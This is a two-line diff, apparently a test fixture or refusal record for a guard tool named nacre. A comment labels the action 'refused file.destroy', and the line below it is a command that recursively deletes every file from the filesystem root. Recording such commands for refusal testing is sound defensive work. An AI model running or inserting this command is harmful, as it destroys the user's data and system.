@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+find / -type f -exec rm -rf {} \;
